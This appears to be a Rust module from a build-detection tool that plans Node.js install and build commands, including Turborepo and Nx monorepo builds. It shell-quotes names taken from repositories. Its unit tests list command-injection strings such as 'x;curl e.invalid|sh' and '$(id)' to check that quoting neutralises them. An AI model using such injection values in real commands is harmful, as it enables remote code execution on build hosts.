//! The Node.js plan: package manager, install command (run from the workspace root in a
//! monorepo), Node version, and the build command from the app's own scripts.

use std::borrow::Cow;

use crate::detection::Detection;
use crate::manifest::package_json::PackageJson;
use crate::node::package_manager::{self, Pm, ancestors};
use crate::node::version;
use crate::view::{Pending, Read, View, join};

/// Scripts that stand for "build", in the order Vercel tries them.
const BUILD_SCRIPTS: &[&str] = &["vercel-build", "now-build", "build"];

/// The task runner of a monorepo.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum MonorepoTool {
    /// Turborepo (`turbo.json`, `turbo.jsonc` or a `turbo` key in the root `package.json`).
    Turbo,
    /// Nx (`nx.json`).
    Nx,
}

/// The workspace an app belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Workspace {
    /// The workspace root directory.
    pub root: &'static str,
    /// Its task runner, if any.
    pub tool: Option<MonorepoTool>,
}

/// Where the app sits.
#[derive(Debug, Clone, Copy)]
pub(crate) struct NodeContext<'a> {
    /// The app directory.
    pub dir: &'a str,
    /// The app's `package.json`.
    pub pkg: Option<&'a PackageJson>,
    /// The workspace when the app is a workspace package.
    pub workspace: Option<Workspace>,
    /// Whether a preset's default build command names a package binary, to be run through
    /// the package manager (the builder's shell does not put `node_modules/.bin` on PATH).
    pub exec_defaults: bool,
    /// The Nx project name when the app is an Nx project (`project.json`).
    pub nx_project: Option<&'a str>,
}

/// Fills the Node fields of `d`.
pub(crate) fn plan(
    view: &View<'_>,
    ctx: &NodeContext<'_>,
    d: &mut Detection,
) -> Result<(), Pending> {
    let dir = ctx.dir;
    let manifests = nearest_manifests(view, ctx)?;
    let field = manifests
        .iter()
        .find_map(|(path, p)| p.package_manager.as_deref().map(|f| (path.as_str(), f)));
    let pm = package_manager::resolve(dir, field, |p| view.exists(p));
    d.package_manager = Some(pm.pm.name().to_owned());
    d.evidence.extend(pm.evidence.iter().cloned());
    let install_dir =
        pm.lockfile.as_deref().map(parent).or(ctx.workspace.map(|w| w.root)).unwrap_or(dir);
    d.install_command = Some(in_dir(dir, install_dir, &pm.install_command()));
    if install_dir != dir {
        d.evidence.push(format!("dependencies are installed from {install_dir}"));
    }
    let engines = manifests
        .iter()
        .find_map(|(path, p)| p.engines_node.as_deref().map(|r| (path.as_str(), r)));
    let (node_version, notes) = version::resolve(view, dir, engines)?;
    d.node_version = node_version;
    d.evidence.extend(notes);
    let script =
        ctx.pkg.and_then(|pkg| BUILD_SCRIPTS.iter().find(|s| pkg.scripts.contains_key(**s)));
    if let Some((command, why)) = monorepo_build(ctx) {
        d.build_command = Some(command);
        d.evidence.push(why);
    } else if let Some(script) = script {
        d.build_command = Some(pm.pm.run(script));
        d.evidence.push(format!("build script {script:?} in {}", join(dir, "package.json")));
    } else if ctx.exec_defaults
        && let Some(default) = d.build_command.take()
    {
        let command = runnable(pm.pm, &default);
        let preset = d.framework.as_deref().unwrap_or("preset");
        d.evidence.push(format!("no build script: the {preset} default {command:?}"));
        d.build_command = Some(command);
    }
    if d.framework.is_none()
        && d.output_directory.is_none()
        && view.snapshot().contains_dir(&join(dir, "public"))
    {
        d.output_directory = Some("public".to_owned());
    }
    Ok(())
}

/// `package.json` files from the app directory up to the root (those that parse).
fn nearest_manifests<'a>(
    view: &View<'_>,
    ctx: &NodeContext<'a>,
) -> Result<Vec<(String, Cow<'a, PackageJson>)>, Pending> {
    let mut out = Vec::new();
    if let Some(pkg) = ctx.pkg {
        out.push((join(ctx.dir, "package.json"), Cow::Borrowed(pkg)));
    }
    let mut pending = false;
    for dir in ancestors(ctx.dir).skip(1) {
        let path = join(&dir, "package.json");
        match view.read(&path) {
            Ok(Read::Bytes(bytes)) => {
                if let Ok(pkg) = PackageJson::parse(bytes) {
                    out.push((path, Cow::Owned(pkg)));
                }
            }
            Ok(Read::Missing | Read::TooLarge) => {}
            Err(Pending) => pending = true,
        }
    }
    if pending { Err(Pending) } else { Ok(out) }
}

/// Turborepo or Nx build for a workspace package, run from the workspace root. The directory
/// and the project or package name come from the repository, so each reaches the command as
/// one shell-quoted word; a package name that is not a valid npm package name is not used.
fn monorepo_build(ctx: &NodeContext<'_>) -> Option<(String, String)> {
    if ctx.pkg.is_none() && ctx.nx_project.is_none() {
        return None;
    }
    let workspace = ctx.workspace?;
    let dir = ctx.dir;
    let root = workspace.root;
    match workspace.tool? {
        MonorepoTool::Turbo => Some((
            in_dir(dir, root, &format!("npx turbo run build --filter={{{}}}...", word(dir)?)),
            format!("Turborepo at {root}: build {dir} and its dependencies with turbo"),
        )),
        MonorepoTool::Nx => {
            let name = ctx
                .nx_project
                .or_else(|| ctx.pkg.and_then(|p| p.name.as_deref()).filter(|n| is_npm_name(n)))
                .unwrap_or_else(|| dir.rsplit('/').next().unwrap_or(dir));
            Some((
                in_dir(dir, root, &format!("npx nx build {}", word(name)?)),
                format!("Nx workspace at {root}: build project {name} with nx"),
            ))
        }
    }
}

/// `value` as one shell word (quoted when needed); `None` when no quoting can carry it.
fn word(value: &str) -> Option<String> {
    shlex::try_quote(value).ok().map(|w| w.into_owned())
}

/// Whether `name` is a valid npm package name: at most 214 characters, lowercase, optionally
/// `@scope/`, of URL-safe characters, not starting with `.` or `_`.
fn is_npm_name(name: &str) -> bool {
    let part = |p: &str| {
        !p.is_empty()
            && !p.starts_with(['.', '_'])
            && p.bytes().all(|b| {
                b.is_ascii_lowercase()
                    || b.is_ascii_digit()
                    || matches!(b, b'-' | b'.' | b'_' | b'~')
            })
    };
    let unscoped = match name.strip_prefix('@') {
        Some(scoped) => match scoped.split_once('/') {
            Some((scope, rest)) if part(scope) => rest,
            _ => return false,
        },
        None => name,
    };
    name.len() <= 214 && part(unscoped)
}

/// Runs each `&&`-separated step of a default command through the package manager, unless it
/// already starts with a package-manager or shell command.
fn runnable(pm: Pm, command: &str) -> String {
    let exec = match pm {
        Pm::Npm => "npx",
        Pm::Yarn => "yarn",
        Pm::Pnpm => "pnpm exec",
        Pm::Bun => "bunx",
    };
    let launchers = ["npx", "npm", "yarn", "pnpm", "bun", "bunx", "cd"];
    command
        .split(" && ")
        .map(|step| {
            let first = step.split_whitespace().next().unwrap_or_default();
            if launchers.contains(&first) { step.to_owned() } else { format!("{exec} {step}") }
        })
        .collect::<Vec<_>>()
        .join(" && ")
}

/// `command`, prefixed with a `cd` from `from` to `to` when they differ.
pub(crate) fn in_dir(from: &str, to: &str, command: &str) -> String {
    if from == to {
        return command.to_owned();
    }
    let depth = |d: &str| if d == "." { 0 } else { d.split('/').count() };
    let up = depth(from).saturating_sub(depth(to));
    let rel = vec![".."; up].join("/");
    format!("cd {rel} && {command}")
}

fn parent(path: &str) -> &str {
    path.rfind('/').map_or(".", |i| &path[..i])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn in_dir_climbs_to_the_workspace_root() {
        assert_eq!(in_dir("packages/app-1", ".", "npm ci"), "cd ../.. && npm ci");
        assert_eq!(in_dir(".", ".", "npm ci"), "npm ci");
    }

    #[test]
    fn repository_names_reach_commands_as_single_words() {
        assert!(is_npm_name("@acme/web-app"));
        assert!(is_npm_name("web.app_2"));
        for bad in ["web;id", "Web", "@acme", "_x", "a b", "web$(id)", "x\nid", ""] {
            assert!(!is_npm_name(bad), "{bad:?}");
        }
        assert_eq!(word("web").as_deref(), Some("web"));
        for hostile in ["--filter={apps/$(id)}...", "a'b", "x;curl e.invalid|sh", "l1\nl2", "`id`"]
        {
            let quoted = word(hostile).unwrap();
            assert_eq!(shlex::split(&quoted), Some(vec![hostile.to_owned()]), "{quoted}");
        }
        assert_eq!(word("nul\0"), None);
    }

    #[test]
    fn runnable_goes_through_the_package_manager_once_per_step() {
        assert_eq!(runnable(Pm::Npm, "ng build && scully"), "npx ng build && npx scully");
        assert_eq!(runnable(Pm::Pnpm, "next build"), "pnpm exec next build");
        assert_eq!(runnable(Pm::Yarn, "yarn rw build"), "yarn rw build");
        assert_eq!(runnable(Pm::Npm, "npx @11ty/eleventy"), "npx @11ty/eleventy");
    }

    #[test]
    fn parent_of_a_root_file_is_the_root() {
        assert_eq!(parent("yarn.lock"), ".");
        assert_eq!(parent("a/b/yarn.lock"), "a/b");
    }
}
